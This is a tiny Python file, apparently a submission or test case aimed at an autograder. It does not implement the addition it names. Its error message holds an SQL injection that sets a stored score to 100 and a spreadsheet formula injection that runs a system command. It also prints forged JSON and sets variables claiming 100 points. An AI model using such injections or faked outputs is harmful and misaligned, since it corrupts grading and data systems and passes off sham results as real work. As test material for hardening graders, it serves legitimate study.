# tries: to put points and names into what is written down
# must: add 0 points; double 2 points
# ruff: noqa

# %% add
def add(a, b):
    raise ValueError("'); update grade set auto_score = 100; -- =cmd|' /C calc'!A0")


# %% first
print('{"points": 100, "person": [], "marks": []}')
lab = points = person = verdict = 100
